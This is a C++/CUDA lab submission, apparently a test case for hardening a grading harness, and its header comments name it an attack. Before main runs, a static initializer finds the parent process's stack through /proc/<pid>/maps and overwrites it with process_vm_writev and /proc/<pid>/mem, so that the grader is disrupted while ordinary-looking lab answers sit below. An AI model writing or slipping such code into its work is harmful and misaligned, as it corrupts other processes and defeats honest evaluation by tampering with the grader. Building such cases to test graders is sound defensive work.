// ATTACK: writes into the stack of its parent, by process_vm_writev and by /proc/PID/mem
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: the grader goes on with the next file

#include "lab.hpp"

#include <cstdio>
#include <fcntl.h>
#include <fstream>
#include <string>
#include <sys/uio.h>
#include <unistd.h>

static const int done = [] {
    const std::string parent = "/proc/" + std::to_string(getppid());
    std::ifstream maps(parent + "/maps");
    std::string line;
    while (std::getline(maps, line) && line.find("[stack]") == std::string::npos) {
    }
    unsigned long begin = 0, end = 0;
    if (std::sscanf(line.c_str(), "%lx-%lx", &begin, &end) != 2) return 0;
    static char nothing[4096];
    iovec mine = {nothing, sizeof nothing};
    iovec theirs = {reinterpret_cast<void*>(end - sizeof nothing), sizeof nothing};
    (void)!process_vm_writev(getppid(), &mine, 1, &theirs, 1, 0);
    const int memory = open((parent + "/mem").c_str(), O_RDWR);
    if (memory >= 0) (void)!pwrite(memory, nothing, sizeof nothing, static_cast<off_t>(end - sizeof nothing));
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
